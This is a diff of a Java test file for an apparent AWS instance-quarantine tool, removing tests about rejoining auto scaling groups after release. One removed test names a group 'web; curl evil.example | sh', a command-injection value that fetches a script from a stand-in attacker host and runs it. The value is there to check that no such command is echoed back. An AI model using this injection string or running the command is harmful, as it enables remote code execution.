@@ -14,7 +14,6 @@ import software.amazon.awssdk.services.elasticloadbalancingv2.model.TargetTypeEn
 
 /** Taking an isolation back: exactly the state before, and nothing that somebody changed since. */
 final class ReleaseTest extends InWorld {
-
     @Test
     void putsEverythingBackAsItWas() {
         Network other = world.network("10.2.0.0/16", true);
@@ -52,94 +51,6 @@ final class ReleaseTest extends InWorld {
         function.release(instance);
 
         assertThat(world.describe(instance).tags()).isEmpty();
-    }
-
-    @Test
-    void doesNotRejoinTheAutoScalingGroupUnasked() {
-        String instance = instance();
-        world.joinAutoScalingGroup(instance, network, "web");
-        function.finding(instance);
-
-        JsonNode step = releasedStep(function.release(instance), "leave-auto-scaling-group");
-
-        assertThat(step.path("result").asText()).isEqualTo("KEPT");
-        assertThat(step.path("note").asText()).contains("rejoin-auto-scaling-group", "web", "desired capacity");
-        assertThat(world.autoScalingGroupOf(instance)).isEmpty();
-    }
-
-    @Test
-    void givesNoCommandToPasteThatSomebodyElseHasNamed() {
-        String instance = instance();
-        world.joinAutoScalingGroup(instance, network, "web; curl evil.example | sh");
-        function.finding(instance);
-
-        JsonNode step = releasedStep(function.release(instance), "leave-auto-scaling-group");
-
-        assertThat(step.path("note").asText()).doesNotContain("aws autoscaling", "attach-instances");
-    }
-
-    @Test
-    void rejoinsTheAutoScalingGroupWhenTold() {
-        String instance = instance();
-        world.joinAutoScalingGroup(instance, network, "web");
-        function.finding(instance);
-
-        JsonNode step =
-                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");
-
-        assertThat(step.path("result").asText()).isEqualTo("RESTORED");
-        assertThat(step.path("note").asText()).contains("desired capacity");
-        assertThat(world.autoScalingGroupOf(instance)).contains("web");
-    }
-
-    @Test
-    void saysThatTheProtectionFromScaleInIsNotRestored() {
-        String instance = instance();
-        world.joinAutoScalingGroup(instance, network, "web");
-        world.autoScaling.setInstanceProtection(request ->
-                request.autoScalingGroupName("web").instanceIds(instance).protectedFromScaleIn(true));
-        function.finding(instance);
-
-        JsonNode step =
-                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");
-
-        assertThat(step.path("result").asText()).isEqualTo("RESTORED");
-        assertThat(step.path("note").asText()).contains("scale-in", "not restored");
-    }
-
-    @Test
-    void doesNotRejoinWhileAnInterfaceStaysInQuarantine() {
-        String instance = instance();
-        world.joinAutoScalingGroup(instance, network, "web");
-        function.finding(instance);
-        world.ec2.deleteSecurityGroup(request -> request.groupId(app));
-
-        JsonNode step =
-                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");
-
-        assertThat(step.path("result").asText()).isEqualTo("KEPT");
-        assertThat(step.path("note").asText())
-                .contains("quarantine", world.interfaces(instance).getFirst(), "release again");
-        assertThat(wire.count("AttachInstances")).isZero();
-    }
-
-    @Test
-    void doesNotRejoinAnInstanceThatDoesNotRunAndDoesSoOnceItDoes() {
-        String instance = instance();
-        world.joinAutoScalingGroup(instance, network, "web");
-        function.finding(instance);
-        world.ec2.stopInstances(request -> request.instanceIds(instance));
-
-        JsonNode stopped =
-                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");
-        world.ec2.startInstances(request -> request.instanceIds(instance));
-        JsonNode started =
-                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");
-
-        assertThat(stopped.path("result").asText()).isEqualTo("KEPT");
-        assertThat(stopped.path("note").asText()).contains("stop");
-        assertThat(started.path("result").asText()).isEqualTo("RESTORED");
-        assertThat(world.autoScalingGroupOf(instance)).contains("web");
     }
 
     @Test
